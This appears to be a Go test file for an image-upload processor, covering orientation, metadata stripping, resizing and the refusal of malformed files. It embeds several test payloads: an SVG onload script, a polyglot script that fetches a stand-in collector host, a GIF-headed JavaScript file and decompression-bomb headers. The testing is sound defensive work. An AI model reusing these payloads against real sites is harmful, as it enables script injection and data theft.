package photo

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"io"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/iotest"

	"xieshang/internal/platform/i18n"
	"xieshang/internal/platform/problem"
)

func processor(t testing.TB, l Limits) *Processor {
	t.Helper()
	p, err := New(l)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func process(t testing.TB, data []byte) (Photo, error) {
	t.Helper()
	return processor(t, DefaultLimits()).Process(t.Context(), bytes.NewReader(data))
}

func mustProcess(t testing.TB, data []byte) Photo {
	t.Helper()
	p, err := process(t, data)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func open(t testing.TB, r Rendition) image.Image {
	t.Helper()
	m, err := jpeg.Decode(bytes.NewReader(r.JPEG))
	if err != nil {
		t.Fatal(err)
	}
	if m.Bounds().Dx() != r.Width || m.Bounds().Dy() != r.Height {
		t.Errorf("rendition says %dx%d, its JPEG is %v", r.Width, r.Height, m.Bounds())
	}
	return m
}

func near(a, b color.Color) bool {
	ar, ag, ab, _ := a.RGBA()
	br, bg, bb, _ := b.RGBA()
	d := func(x, y uint32) bool { return max(x, y)-min(x, y) < 0x1800 }
	return d(ar, br) && d(ag, bg) && d(ab, bb)
}

// corners names the colours in the middle of the quarters.
func corners(m image.Image) string {
	w, h := m.Bounds().Dx(), m.Bounds().Dy()
	out := ""
	for _, at := range [][2]int{{w / 4, h / 4}, {w * 3 / 4, h / 4}, {w / 4, h * 3 / 4}, {w * 3 / 4, h * 3 / 4}} {
		name := "?"
		for n, c := range map[string]color.RGBA{"R": red, "G": green, "B": blue, "Y": yellow} {
			if near(m.At(at[0], at[1]), c) {
				name = n
			}
		}
		out += name
	}
	return out
}

// The expected corners follow from the standard's words: where row 0 and column 0 of the stored picture belong.
var uprightCorners = map[uint16]string{1: "RGBY", 2: "GRYB", 3: "YBGR", 4: "BYRG", 5: "RBGY", 6: "BRYG", 7: "YGBR", 8: "GYRB"}

func TestOrientationIsAppliedAndMetadataGone(t *testing.T) {
	stored := jpegOf(t, quarters(80, 48))
	storedPNG := pngOf(t, quarters(80, 48))
	for o, want := range uprightCorners {
		for _, order := range []binary.ByteOrder{binary.LittleEndian, binary.BigEndian} {
			exif := tiff(order, o)
			inPNG := append([]byte{}, storedPNG[:33]...) // signature and IHDR
			inPNG = append(append(inPNG, pngChunk("eXIf", exif)...), storedPNG[33:]...)
			for name, data := range map[string][]byte{"jpeg": withExif(stored, exif), "png": inPNG} {
				if !bytes.Contains(data, []byte("SECRETCAMER")) {
					t.Fatal("the fixture holds no metadata")
				}
				photo := mustProcess(t, data)
				for _, r := range []Rendition{photo.Full, photo.Medium, photo.Small} {
					m := open(t, r)
					if got := corners(m); got != want {
						t.Errorf("%s orientation %d: corners %s, want %s", name, o, got, want)
					}
					if turned := r.Width == 48 && r.Height == 80; turned != (o >= 5) {
						t.Errorf("%s orientation %d: %dx%d", name, o, r.Width, r.Height)
					}
					assertBare(t, r.JPEG)
				}
			}
		}
	}
}

// assertBare fails when a JPEG has any segment besides those that its pixels need.
func assertBare(t testing.TB, j []byte) {
	t.Helper()
	if bytes.Contains(j, []byte("Exif")) || bytes.Contains(j, []byte("SECRETCAMER")) || bytes.Contains(j, []byte("http")) {
		t.Error("metadata survived")
	}
	for at := 2; at+4 <= len(j); {
		marker := j[at+1]
		if j[at] != 0xff || marker >= 0xe0 && marker <= 0xef || marker == 0xfe {
			t.Errorf("segment %x %x in the result", j[at], marker)
			return
		}
		if marker == 0xda {
			return
		}
		at += 2 + int(binary.BigEndian.Uint16(j[at+2:]))
	}
}

func TestEveryKind(t *testing.T) {
	var anim bytes.Buffer
	frame := func(c color.Color) *image.Paletted {
		m := image.NewPaletted(image.Rect(0, 0, 40, 20), color.Palette{color.Transparent, c})
		for i := range m.Pix {
			m.Pix[i] = uint8(i % 40 / 20) // left half transparent
		}
		return m
	}
	err := gif.EncodeAll(&anim, &gif.GIF{Image: []*image.Paletted{frame(red), frame(blue)}, Delay: []int{1, 1}})
	if err != nil {
		t.Fatal(err)
	}
	photo := mustProcess(t, anim.Bytes())
	m := open(t, photo.Full)
	if photo.Kind != GIF || !near(m.At(30, 10), red) || !near(m.At(8, 10), color.White) {
		t.Errorf("%s: right %v, left %v; want the first frame over white", photo.Kind, m.At(30, 10), m.At(8, 10))
	}

	photo = mustProcess(t, webpOf(30, 20, blue, nil))
	if photo.Kind != WebP || !near(open(t, photo.Full).At(5, 5), blue) {
		t.Errorf("webp: %s", photo.Kind)
	}
	photo = mustProcess(t, webpOf(30, 20, yellow, append([]byte("Exif\x00\x00"), tiff(binary.BigEndian, 6)...)))
	if photo.Full.Width != 20 || photo.Full.Height != 30 || !near(open(t, photo.Full).At(5, 5), yellow) {
		t.Errorf("webp with orientation 6: %dx%d", photo.Full.Width, photo.Full.Height)
	}

	half := image.NewNRGBA(image.Rect(0, 0, 16, 16))
	deep := image.NewNRGBA64(image.Rect(0, 0, 16, 16))
	gray := image.NewGray(image.Rect(0, 0, 16, 16))
	for i := range 256 {
		half.SetNRGBA(i%16, i/16, color.NRGBA{0, 0, 0, 128})
		deep.Set(i%16, i/16, color.NRGBA64{0xffff, 0, 0, 0x8000})
		gray.SetGray(i%16, i/16, color.Gray{200})
	}
	for name, c := range map[string]struct {
		m    image.Image
		want color.Color
	}{
		"transparent":      {half, color.Gray{127}},
		"deep transparent": {deep, color.RGBA{255, 127, 127, 255}},
		"gray":             {gray, color.Gray{200}},
	} {
		photo := mustProcess(t, pngOf(t, c.m))
		if got := open(t, photo.Full).At(8, 8); photo.Kind != PNG || !near(got, c.want) {
			t.Errorf("%s: %v, want %v", name, got, c.want)
		}
	}
	photo = mustProcess(t, jpegOf(t, gray))
	if got := open(t, photo.Full).At(8, 8); !near(got, color.Gray{200}) {
		t.Errorf("gray JPEG: %v", got)
	}
}

func TestSizes(t *testing.T) {
	for _, c := range []struct{ w, h, fw, fh, mw, mh, sw, sh int }{
		{1, 1, 1, 1, 1, 1, 1, 1},
		{320, 1, 320, 1, 320, 1, 320, 1},
		{3000, 1000, 2560, 853, 960, 320, 320, 107},
		{500, 2561, 500, 2560, 188, 960, 63, 320},
		{4000, 1, 2560, 1, 960, 1, 320, 1},
	} {
		p := mustProcess(t, jpegOf(t, quarters(c.w, c.h)))
		got := [...]int{p.Full.Width, p.Full.Height, p.Medium.Width, p.Medium.Height, p.Small.Width, p.Small.Height}
		if want := [...]int{c.fw, c.fh, c.mw, c.mh, c.sw, c.sh}; got != want {
			t.Errorf("%dx%d became %v, want %v", c.w, c.h, got, want)
		}
		for _, r := range []Rendition{p.Full, p.Medium, p.Small} {
			if m := open(t, r); r.Height > 50 && corners(m) != "RGBY" {
				t.Errorf("%dx%d as %dx%d: corners %s", c.w, c.h, r.Width, r.Height, corners(m))
			}
		}
	}
}

func TestRefusals(t *testing.T) {
	good := jpegOf(t, quarters(64, 64))
	noisy := image.NewRGBA(image.Rect(0, 0, 200, 200))
	for i := range noisy.Pix {
		noisy.Pix[i] = byte(i * i >> 3)
	}
	tests := map[string]struct {
		data []byte
		want error
		key  string
	}{
		"empty":           {nil, ErrEmpty, "photo.empty"},
		"text":            {[]byte("I am holiday.jpg, honestly\n"), ErrType, "photo.type"},
		"html":            {[]byte("<svg onload=alert(1)>"), ErrType, "photo.type"},
		"two bytes":       {[]byte("\xff\xd8"), ErrType, "photo.type"},
		"start only":      {[]byte("\xff\xd8\xff"), ErrDamaged, "photo.damaged"},
		"bmp":             {append([]byte("BM"), make([]byte, 100)...), ErrType, "photo.type"},
		"heic":            {[]byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"), ErrHEIC, "photo.heic"},
		"avif":            {[]byte("\x00\x00\x00\x18ftypavif\x00\x00\x00\x00mif1avif"), ErrType, "photo.type"},
		"mp4":             {[]byte("\x00\x00\x00\x18ftypisom\x00\x00\x00\x00mif1avif"), ErrType, "photo.type"},
		"cut jpeg":        {good[:len(good)-len(good)/4], ErrDamaged, "photo.damaged"},
		"cut png":         {pngOf(t, noisy)[:1500], ErrDamaged, "photo.damaged"},
		"png bomb":        {append(pngHeader(60000, 60000), pngChunk("IDAT", []byte{1})...), ErrTooBig, "photo.too-big"},
		"webp bomb":       {webpOf(16384, 16384, red, nil), ErrTooBig, "photo.too-big"},
		"gif bomb":        {[]byte("GIF89a\xff\xff\xff\xff\x00\x00\x00,"), ErrTooBig, "photo.too-big"},
		"many pixels":     {[]byte("GIF89a\x40\x1f\x40\x1f\x00\x00\x00,"), ErrTooBig, "photo.too-big"}, // 64 million, one byte each
		"many bytes":      {append(good, make([]byte, 15<<20)...), ErrTooLarge, "photo.too-large"},
		"lossless memory": {webpOf(4000, 4000, red, nil), ErrTooBig, "photo.too-big"},
	}
	for name, c := range tests {
		_, err := process(t, c.data)
		if !errors.Is(err, c.want) {
			t.Errorf("%s: %v, want %v", name, err, c.want)
		}
		if key, ok := messageKey(err); !ok || key != c.key {
			t.Errorf("%s: message %q, want %q", name, key, c.key)
		}
	}
	broken := errors.New("the disk is gone")
	_, err := processor(t, DefaultLimits()).Process(t.Context(), io.MultiReader(bytes.NewReader(good[:50]), iotest.ErrReader(broken)))
	if _, refusal := messageKey(err); !errors.Is(err, broken) || refusal {
		t.Errorf("failing reader: %v", err)
	}
	if _, err := New(Limits{}); err == nil {
		t.Error("New took limits of zero")
	}
}

// TestBombsTakeNoMemory measures what the refusals above allocate, all together.
func TestBombsTakeNoMemory(t *testing.T) {
	p := processor(t, DefaultLimits())
	bombs := [][]byte{pngHeader(60000, 60000), webpOf(16384, 16384, red, nil), webpOf(5000, 5000, red, nil),
		[]byte("GIF89a\xff\xff\xff\xff\x00\x00\x00,"), progressive(jpegOf(t, quarters(32, 32)), 6000, 6000)}
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	for i, bomb := range bombs {
		if _, err := p.Process(t.Context(), bytes.NewReader(bomb)); !errors.Is(err, ErrTooBig) {
			t.Errorf("bomb %d: %v", i, err)
		}
	}
	runtime.ReadMemStats(&after)
	if took := after.TotalAlloc - before.TotalAlloc; took > 2<<20 {
		t.Errorf("%d bytes were allocated for pictures that are refused", took)
	}
}

// progressive rewrites the frame header of a baseline JPEG to another size and to progressive.
func progressive(j []byte, w, h uint16) []byte {
	at := bytes.Index(j, []byte{0xff, 0xc0})
	out := bytes.Clone(j)
	out[at+1] = 0xc2
	binary.BigEndian.PutUint16(out[at+5:], h)
	binary.BigEndian.PutUint16(out[at+7:], w)
	return out
}

func TestPolyglotLosesItsOtherHalf(t *testing.T) {
	page := "<script>fetch('http://collector.example/')</script>"
	good := jpegOf(t, quarters(64, 64))
	for name, data := range map[string][]byte{
		"comment":  withSegment(good, 0xfe, []byte(page)),
		"app":      withSegment(good, 0xe1, []byte("http://ns.adobe.com/xap/1.0/\x00"+page)),
		"trailing": append(bytes.Clone(good), "PK\x03\x04"+page...),
		"png text": append(append([]byte{}, pngOf(t, quarters(64, 64))[:33]...),
			append(pngChunk("tEXt", []byte("Comment\x00"+page)), pngOf(t, quarters(64, 64))[33:]...)...),
	} {
		photo := mustProcess(t, data)
		for _, r := range []Rendition{photo.Full, photo.Medium, photo.Small} {
			if bytes.Contains(r.JPEG, []byte("script")) || bytes.Contains(r.JPEG, []byte("PK\x03\x04")) {
				t.Errorf("%s: the hidden page survived", name)
			}
			assertBare(t, r.JPEG)
		}
		if got := corners(open(t, photo.Full)); got != "RGBY" {
			t.Errorf("%s: corners %s", name, got)
		}
	}
	// An executable that begins like a GIF is not a picture.
	if _, err := process(t, []byte("GIF89a/*"+strings.Repeat("\x00", 30)+"*/=1;alert(1)")); err == nil {
		t.Error("a script that begins like a GIF was taken")
	}
}

// TestOneAtATime lets many pictures in at once: only one may be read and decoded at any moment.
func TestOneAtATime(t *testing.T) {
	p := processor(t, DefaultLimits())
	good := jpegOf(t, quarters(64, 64))
	var working, most atomic.Int64
	start := make(chan struct{})
	var wg sync.WaitGroup
	for range 16 {
		wg.Go(func() {
			<-start
			first := true
			r := readFunc(func(b []byte) (int, error) {
				if !first {
					working.Add(-1)
					return 0, io.EOF
				}
				first = false
				now := working.Add(1)
				for old := most.Load(); now > old && !most.CompareAndSwap(old, now); old = most.Load() {
				}
				for range 50 {
					runtime.Gosched() // give others every chance to come in
				}
				return copy(b, good[:100]), nil
			})
			if _, err := p.Process(t.Context(), r); !errors.Is(err, ErrDamaged) {
				t.Errorf("half a picture: %v", err)
			}
		})
	}
	close(start)
	wg.Wait()
	if most.Load() != 1 {
		t.Errorf("%d pictures were worked on at once", most.Load())
	}
	ctx, cancel := context.WithCancel(t.Context())
	_, err := p.Process(t.Context(), readFunc(func([]byte) (int, error) {
		cancel()
		_, err := p.Process(ctx, bytes.NewReader(good)) // its turn cannot come
		return 0, fmt.Errorf("inner: %w", err)
	}))
	if !errors.Is(err, context.Canceled) {
		t.Errorf("waiting with a cancelled context: %v", err)
	}
}

type readFunc func([]byte) (int, error)

func (f readFunc) Read(p []byte) (int, error) { return f(p) }

func messageKey(err error) (string, bool) {
	p, ok := problem.Of(Problem(err))
	if !ok {
		return "", false
	}
	return p.Key, true
}

func TestMessages(t *testing.T) {
	if _, err := i18n.Load(Messages); err != nil {
		t.Fatal(err)
	}
	if err := Accept([]byte("plain text")); !problem.Is(err, problem.WrongType) {
		t.Errorf("text: %v", err)
	}
	if err := Accept(jpegOf(t, quarters(8, 8))[:32]); err != nil {
		t.Errorf("JPEG: %v", err)
	}
}
